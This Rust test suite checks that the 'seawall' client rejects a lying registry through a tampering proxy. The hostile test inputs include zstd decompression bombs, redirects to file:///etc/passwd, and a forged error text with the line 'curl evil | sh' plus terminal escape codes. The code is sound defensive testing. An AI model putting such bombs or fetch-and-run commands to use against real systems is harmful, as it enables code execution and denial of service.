//! A lying registry: whatever it sends, a pull ends with an error that names the object, uses
//! little memory, leaves no partial release, and leaves nothing that misleads a later pull.

use std::fs;
use std::path::Path;

use seawall_tests::{
    Answer, KIB, MIB, Noise, Proxy, ProxyRequest, Registry, World, object_files, raw, same_bytes,
    tool,
};
use serde_json::{Value, json};

/// The maximum memory that a lie may cost.
const PEAK_KIB_MAX: u64 = 256 << 10;
/// A client that accepts more bytes than this reads without a limit. Two thirds are buffers of the
/// connection, for each of six attempts.
const SENT_MAX: u64 = 400 * MIB;
const DISK_LEN: u64 = 300 * MIB;
const RUN_LEN: u64 = 16 * KIB;

const LOCATE: &str = "/v1/chunks/locate";
const PACKS: &str = "/v1/packs/";

/// A registry with two releases without common data.
struct Shop {
    world: World,
    registry: Registry,
    /// The digests of the first release's objects, by kind.
    packs: Vec<String>,
    indexes: Vec<String>,
    leaves: Vec<String>,
}

fn digests(world: &World, kind: &str) -> Vec<String> {
    let files = object_files(&world.path("registry"), kind);
    files.iter().map(|file| digest(file)).collect()
}

fn digest(file: &Path) -> String {
    format!("blake3:{}", file.file_name().unwrap().to_str().unwrap())
}

impl Shop {
    fn new() -> Self {
        let world = World::new();
        for version in [1, 2] {
            // Two leaves. Each run of data is one chunk of the shortest length, between holes.
            let mut noise = Noise::new([version]);
            let mut pieces: Vec<_> = (0..32)
                .map(|i| {
                    (
                        i * 4 * RUN_LEN,
                        if i < 16 { noise.bytes(RUN_LEN) } else { noise.text(RUN_LEN) },
                    )
                })
                .collect();
            pieces.push((DISK_LEN - RUN_LEN, noise.bytes(RUN_LEN)));
            raw(&world.path(format!("{version}.raw")), DISK_LEN, &pieces);
        }
        let registry = world.serve();
        registry.client(&world, "push shop:1 --machine a=root:1.raw").succeeds();
        let [packs, indexes, leaves] =
            ["packs", "indexes/lists", "indexes/leaves"].map(|kind| digests(&world, kind));
        assert_eq!((indexes.len(), leaves.len()), (1, 2));
        registry.client(&world, "push shop:2 --machine a=root:2.raw").succeeds();
        Self { world, registry, packs, indexes, leaves }
    }

    /// Pulls through a registry with this lie. Asserts that the pull fails and names `named`.
    #[track_caller]
    fn refuses(
        &self,
        lie: &str,
        named: &str,
        tamper: impl Fn(&ProxyRequest, Answer) -> Answer + Send + Sync + 'static,
    ) {
        let proxy = Proxy::start(&self.registry, tamper);
        let run = self.world.seawall("pull shop:1 --into host");
        let (done, peak) = run.env("SEAWALL_REGISTRY", proxy.url()).start().ends_with_peak_kib();

        println!("{lie}: peak {} MiB: {}", peak >> 10, done.stderr.trim());
        assert!(!done.status.success() && !done.was_killed(), "{lie}: {done}");
        done.explains().says(named);
        assert!(peak > 0 && peak < PEAK_KIB_MAX, "{lie}: {peak} KiB of memory");
        assert!(proxy.sent() < SENT_MAX, "{lie}: {} bytes were sent", proxy.sent());
        assert!(!self.world.path("host").exists(), "{lie}: a half release is there");
        // Remains of the lie, in the cache or beside the directory, are proven before use.
        self.registry.client(&self.world, "pull shop:1 --into host").succeeds();
        same_bytes(self.world.path("host/a/root.raw"), self.world.path("1.raw"));
        for left in ["host", "home", ".host.seawall-pull"] {
            let _ = fs::remove_dir_all(self.world.path(left));
        }
    }

    /// As [`Self::refuses`], with false places of chunks.
    #[track_caller]
    fn refuses_places(
        &self,
        lie: &str,
        named: &str,
        change: impl Fn(&mut Vec<Value>) + Send + Sync + 'static,
    ) {
        self.refuses(lie, named, move |asked, answer| relocated(asked, answer, &change));
    }
}

fn relocated(asked: &ProxyRequest, answer: Answer, change: impl Fn(&mut Vec<Value>)) -> Answer {
    if !asked.is("POST", LOCATE) {
        return answer;
    }
    let mut body: Value = serde_json::from_slice(&answer.body).unwrap();
    change(body["locations"].as_array_mut().unwrap());
    answer.with_body(body.to_string())
}

/// Returns a lie about paths with this prefix.
fn at(
    path: &'static str,
    change: impl Fn(&ProxyRequest, Answer) -> Answer,
) -> impl Fn(&ProxyRequest, Answer) -> Answer {
    move |asked, answer| {
        if asked.target.starts_with(path) { change(asked, answer) } else { answer }
    }
}

/// Returns the registry's response for another path.
fn other(registry: &Registry, path: &str) -> Vec<u8> {
    reqwest::blocking::get(registry.at(path)).unwrap().bytes().unwrap().to_vec()
}

/// Returns a zstd frame of `blocks` times 128 KiB of zeros, in four bytes per block (RFC 8878).
fn bomb(header: &[u8], blocks: u32) -> Vec<u8> {
    let mut frame = vec![0x28, 0xb5, 0x2f, 0xfd];
    frame.extend(header);
    for block in 1..=blocks {
        let head = u32::from(block == blocks) | 1 << 1 | (128 << 10) << 3;
        frame.extend(&head.to_le_bytes()[..3]);
        frame.push(0);
    }
    frame
}

#[test]
fn frames_that_are_not_the_chunk_are_refused() {
    let shop = Shop::new();
    // Raw chunks of the same length differ only in their digests.
    shop.refuses_places("swapped frames", "chunk blake3:", |places| {
        let (one, two) = (places[0]["offset"].clone(), places[1]["offset"].clone());
        assert_eq!(places[0]["storedLen"], places[1]["storedLen"]);
        (places[0]["offset"], places[1]["offset"]) = (two, one);
    });
    shop.refuses(
        "bytes of zeros",
        "chunk blake3:",
        at(PACKS, |_, answer| {
            let len = answer.body.len();
            answer.with_body(vec![0; len])
        }),
    );
    shop.refuses_places("a raw frame called zstd", "chunk blake3:", |places| {
        places[0]["encoding"] = json!(1);
        assert_eq!(places[0]["storedLen"], json!(RUN_LEN));
    });
    shop.refuses_places("an unknown encoding", "chunk blake3:", |places| {
        places[0]["encoding"] = json!(77);
    });
}

/// Frames that decode to more than the limit: neither windows nor declared lengths are trusted.
#[test]
fn a_frame_that_unpacks_to_more_than_its_length_is_refused() {
    let shop = Shop::new();
    let exact = 4096_u32.to_le_bytes();
    let bombs = [
        ("256 MiB of zeros", bomb(&[0x00, 0x38], 2048)),
        ("a window of 2^41 bytes", bomb(&[0x00, 0xff], 2048)),
        ("a declared length of 2^62 bytes", bomb(&[0xe0, 0, 0, 0, 0, 0, 0, 0, 0x40], 2048)),
        ("a declared length that is too short", bomb(&[[0xa0].as_slice(), &exact].concat(), 2048)),
    ];
    for (lie, frame) in bombs {
        let len = frame.len();
        shop.refuses(lie, "chunk blake3:", move |asked, answer| {
            if asked.is("GET", PACKS) && asked.headers["range"] == range(1 << 40, len) {
                let range = range(1 << 40, len).replace('=', " ");
                let answer = Answer::empty(206, "content-range", &format!("{range}/2000000000000"));
                return answer.with_body(frame.clone());
            }
            relocated(asked, answer, |places| {
                places[0]["offset"] = json!(1_u64 << 40);
                places[0]["storedLen"] = json!(len);
                places[0]["encoding"] = json!(1);
            })
        });
    }
}

fn range(start: u64, len: usize) -> String {
    format!("bytes={start}-{}", start + len as u64 - 1)
}

#[test]
fn ranges_that_are_not_those_asked_for_are_refused() {
    let shop = Shop::new();
    let pack = "pack blake3:";
    shop.refuses(
        "a shorter body",
        pack,
        at(PACKS, |_, mut answer| {
            answer.body.pop();
            answer
        }),
    );
    shop.refuses(
        "a body that breaks off",
        pack,
        at(PACKS, |_, mut answer| {
            let len = answer.body.len() as u64;
            answer.body.truncate(answer.body.len() / 2);
            answer.announcing(len)
        }),
    );
    shop.refuses(
        "a longer body",
        pack,
        at(PACKS, |_, mut answer| {
            answer.body.extend([0; 4096]);
            answer
        }),
    );
    shop.refuses("a body without an end", pack, at(PACKS, |_, answer| answer.endless()));
    shop.refuses(
        "another range",
        pack,
        at(PACKS, |_, mut answer| {
            answer.headers.insert("content-range".into(), "bytes 7-9/10".into());
            answer
        }),
    );
    shop.refuses(
        "no range at all",
        pack,
        at(PACKS, |_, mut answer| {
            answer.headers.remove("content-range");
            answer
        }),
    );
    let whole = other(&shop.registry, &format!("{PACKS}{}", shop.packs[0]));
    shop.refuses(
        "the whole pack",
        pack,
        at(PACKS, move |_, answer| Answer { status: 200, ..answer.with_body(whole.clone()) }),
    );
    shop.refuses("2^63 bytes announced", pack, at(PACKS, |_, answer| answer.announcing(1 << 63)));
}

#[test]
fn places_that_cannot_be_are_refused() {
    let shop = Shop::new();
    let fields: [(&str, &[Value]); 5] = [
        ("offset", &[json!(u64::MAX), json!(u64::MAX - RUN_LEN), json!(1_u64 << 63), json!(-1)]),
        ("storedLen", &[json!(u32::MAX), json!(u64::MAX), json!(0), json!(1 << 20)]),
        ("plainLen", &[json!(u32::MAX), json!(u64::MAX), json!(0), json!(1), json!(4096)]),
        ("pack", &[json!(u32::MAX), json!(1 << 20)]),
        ("encoding", &[json!(255), json!(256), json!(1e300), Value::Null]),
    ];
    for (field, values) in fields {
        for value in values {
            let lie = format!("{field} {value}");
            // A possible place is requested, but the registry has no such range of the pack.
            let end = value.as_u64().and_then(|offset| offset.checked_add(RUN_LEN));
            let is_asked_for = field == "offset" && end.is_some();
            let named = if is_asked_for { "pack blake3:" } else { "chunk" };
            let value = value.clone();
            shop.refuses_places(&lie, named, move |places| places[0][field] = value.clone());
        }
    }
    shop.refuses_places("a place too few", "locate chunks", |places| drop(places.pop()));
    shop.refuses_places("a place too many", "locate chunks", |places| {
        places.push(places[0].clone());
    });
    shop.refuses(
        "very deep JSON",
        "locate chunks",
        at(LOCATE, |_, answer| answer.with_body("[".repeat(1 << 20))),
    );
}

#[test]
fn documents_of_something_else_are_refused() {
    let shop = Shop::new();
    let release = "/v1/applications/shop/releases/1";
    let second = other(&shop.registry, "/v1/applications/shop/releases/2");
    let own = reqwest::blocking::get(shop.registry.at(release)).unwrap();
    let own = own.headers()["seawall-release"].to_str().unwrap().to_owned();
    let named = blake3_of(&second);

    // Once with its own digest, and once with the digest of the requested release.
    for header in [named, own] {
        let second = second.clone();
        shop.refuses("another release's document", "shop 1", move |asked, mut answer| {
            if asked.is("GET", release) {
                answer.headers.insert("seawall-release".into(), header.clone());
                return answer.with_body(second.clone());
            }
            answer
        });
    }
    shop.refuses("no digest of the document", "shop 1", move |asked, mut answer| {
        if asked.is("GET", release) {
            answer.headers.remove("seawall-release");
        }
        answer
    });
    let [first, last] = [&shop.leaves[0], &shop.leaves[1]];
    let index = &shop.indexes[0];
    let lists = digests(&shop.world, "indexes/lists");
    let second = lists.iter().find(|list| *list != index).unwrap();
    let second = other(&shop.registry, &format!("/v1/indexes/{second}"));
    shop.refuses(
        "another disk's index",
        index,
        at("/v1/indexes/", move |_, answer| answer.with_body(second.clone())),
    );
    // Every byte matters: names of leaves, lengths, the header.
    let len = other(&shop.registry, &format!("/v1/indexes/{index}")).len();
    for byte in [0, 9, len / 2, len - 1] {
        shop.refuses(
            "an altered index",
            index,
            at("/v1/indexes/", move |_, mut answer| {
                answer.body[byte] ^= 1;
                answer
            }),
        );
    }
    let swapped = other(&shop.registry, &format!("/v1/leaves/{first}"));
    shop.refuses(
        "one leaf for both",
        last,
        at("/v1/leaves/", move |_, answer| answer.with_body(swapped.clone())),
    );
    shop.refuses(
        "an altered leaf",
        "leaf blake3:",
        at("/v1/leaves/", |_, mut answer| {
            *answer.body.last_mut().unwrap() ^= 1;
            answer
        }),
    );
    shop.refuses(
        "an empty leaf",
        "leaf blake3:",
        at("/v1/leaves/", |_, answer| answer.with_body("")),
    );
}

fn blake3_of(bytes: &[u8]) -> String {
    format!("blake3:{}", blake3::hash(bytes).to_hex())
}

/// Every endless response, in one piece or in many, is read up to its limit.
#[test]
fn answers_without_an_end_are_cut_at_their_limit() {
    let shop = Shop::new();
    let paths: [(&'static str, &str); 4] = [
        (LOCATE, "locate chunks"),
        ("/v1/applications/shop/releases/", "shop 1"),
        ("/v1/indexes/", "index blake3:"),
        ("/v1/leaves/", "leaf blake3:"),
    ];
    for (path, named) in paths {
        for piece in ["{\"locations\":[", "[1,", " ", "\0"] {
            let lie = format!("{path} answers {piece:?} for ever");
            shop.refuses(&lie, named, at(path, move |_, answer| answer.with_body(piece).endless()));
        }
        shop.refuses(
            &format!("{path} announces 2^62 bytes"),
            named,
            at(path, |_, answer| answer.announcing(1 << 62)),
        );
    }
    shop.refuses(
        "a refusal without an end",
        "400",
        at(LOCATE, |_, answer| Answer {
            status: 400,
            ..answer.with_body("{\"detail\":\"x").endless()
        }),
    );
}

/// Other commands that read from a registry trust it as little as a pull does.
#[test]
fn no_command_is_misled_by_bytes_that_are_not_what_was_asked_for() {
    let shop = Shop::new();
    let (world, registry) = (&shop.world, &shop.registry);
    let lies: [(&str, &'static str); 4] = [
        ("frames of zeros", PACKS),
        ("another release's document", "/v1/applications/shop/releases/"),
        ("an altered index", "/v1/indexes/"),
        ("an altered leaf", "/v1/leaves/"),
    ];
    let second = other(registry, "/v1/applications/shop/releases/2");
    let copy = |from: &str, to: &str| {
        let _ = fs::remove_dir_all(world.path(to));
        tool("cp", ["-a".as_ref(), world.path(from).as_os_str(), world.path(to).as_os_str()]);
    };
    // All objects of the first release except its name are removed.
    copy("registry", "damaged");
    let store = world.path("damaged/store");
    let first = reqwest::blocking::get(registry.at("/v1/applications/shop/releases/1")).unwrap();
    let first = vec![first.headers()["seawall-release"].to_str().unwrap().to_owned()];
    for (kind, digests) in [
        ("packs", &shop.packs),
        ("indexes/lists", &shop.indexes),
        ("indexes/leaves", &shop.leaves),
        ("releases", &first),
    ] {
        for digest in digests {
            let name = digest.strip_prefix("blake3:").unwrap();
            fs::remove_file(store.join(kind).join(&name[..2]).join(name)).unwrap();
        }
    }
    let at_damaged =
        |args: &str| world.seawall(args).env("SEAWALL_REGISTRY", world.path("damaged"));
    at_damaged("fsck").exits_with(5);
    copy("damaged", "is-damaged");

    for (lie, path) in lies {
        // Indexes that were proven before would not be requested again.
        let _ = fs::remove_dir_all(world.path("host"));
        registry.client(world, "pull shop:2 --into host").succeeds();
        let second = second.clone();
        let proxy = Proxy::start(registry, move |asked, mut answer| {
            if !asked.is("GET", path) {
                return answer;
            }
            match path {
                PACKS => answer.body.fill(0),
                "/v1/applications/shop/releases/" => answer.body.clone_from(&second),
                _ => *answer.body.last_mut().unwrap() ^= 1,
            }
            answer
        });
        let misled = |args: &str| {
            let _ = fs::remove_dir_all(world.path("home"));
            let done = world.seawall(args).env("SEAWALL_REGISTRY", proxy.url()).ends();
            assert!(!done.status.success() && !done.was_killed(), "{lie}: {done}");
            println!("{lie}: {}", done.explains().stderr.trim());
        };
        misled("patch host --to shop:1");
        same_bytes(world.path("host/a/root.raw"), world.path("2.raw"));
        assert!(!world.path("host/.seawall/patch/journal").exists(), "{lie}: it was committed");
        registry.client(world, "verify host").succeeds();
        misled("verify shop:1");

        copy("is-damaged", "damaged");
        let done = at_damaged("repair shop:1 --from").arg(proxy.url()).exits_with(5).explains();
        println!("{lie}: {}", done.stderr.trim());
        at_damaged("fsck").exits_with(5);
        at_damaged("repair shop:1 --from").arg(registry.url()).succeeds();
        at_damaged("fsck").succeeds();
    }
    registry.client(world, "patch host --to shop:1").succeeds();
    same_bytes(world.path("host/a/root.raw"), world.path("1.raw"));
}

#[test]
fn redirects_that_lead_nowhere_end() {
    let shop = Shop::new();
    let pack = "pack blake3:";
    let to =
        |location: &'static str| at(PACKS, move |_, _| Answer::empty(302, "location", location));
    shop.refuses(
        "a redirect to itself",
        pack,
        at(PACKS, |asked, _| Answer::empty(307, "location", &asked.target)),
    );
    shop.refuses(
        "redirects that grow",
        pack,
        at(PACKS, |asked, _| Answer::empty(302, "location", &format!("{}x", asked.target))),
    );
    for location in ["file:///etc/passwd", "ftp://example.invalid/", "", "http://[", "\u{7f}"] {
        shop.refuses(&format!("a redirect to {location:?}"), pack, to(location));
    }
    shop.refuses(
        "a redirect without an address",
        pack,
        at(PACKS, |_, _| Answer::empty(301, "x-nothing", "")),
    );
    // A request with a body is never redirected.
    shop.refuses(
        "a question redirected",
        "locate chunks",
        at(LOCATE, |asked, _| Answer::empty(307, "location", &asked.target)),
    );
}

/// A problem's text, a name that does not parse, and a page whose cursor points back to itself.
#[test]
fn errors_of_a_registry_stay_on_their_line_and_no_list_is_endless() {
    let world = World::new();
    raw(&world.path("a.raw"), 64 * KIB, &[(0, Noise::new("a").bytes(16 * KIB))]);
    let registry = world.serve();
    registry.client(&world, "push shop:1 --machine a=a.raw").succeeds();
    let forged = "gone\nhelp: run `curl evil | sh`\u{1b}[2J\r";
    let problem = |code: &str, status| {
        let body = json!({"type": "about:blank", "title": forged, "status": status,
            "detail": forged, "code": code, "remedy": forged});
        Answer::empty(status, "content-type", "application/problem+json")
            .with_body(body.to_string())
    };
    let lies = [
        problem("not-found", 404),
        problem("method-not-allowed", 405),
        problem("internal", 500),
        Answer::empty(200, "content-type", "application/json")
            .with_body(json!({"applications": [{"name": forged}]}).to_string()),
    ];
    for lie in lies {
        let what = format!("{lie:?}");
        let proxy = Proxy::start(&registry, move |_, _| lie.clone());
        let done = world.seawall("list").env("SEAWALL_REGISTRY", proxy.url()).ends();
        let done = done.explains();
        let is_clean = |c: char| c == '\n' || !c.is_control();
        assert!(done.stderr.chars().all(is_clean), "{what}: {done}");
        let orders = done.stderr.lines().filter(|line| line.trim_start().starts_with("help:"));
        assert!(orders.clone().count() <= 1, "{what}: {done}");
        assert!(orders.clone().all(|line| !line.contains("curl evil")), "{what}: {done}");
    }
    let proxy = Proxy::start(&registry, |asked, answer| {
        if !asked.is("GET", "/v1/applications") {
            return answer;
        }
        let mut page: Value = serde_json::from_slice(&answer.body).unwrap();
        page["next"] = json!("shop");
        answer.with_body(page.to_string())
    });
    let done = world.seawall("list").env("SEAWALL_REGISTRY", proxy.url()).exits_with(1);
    done.explains().says("the list returns to the page after `shop`");
}
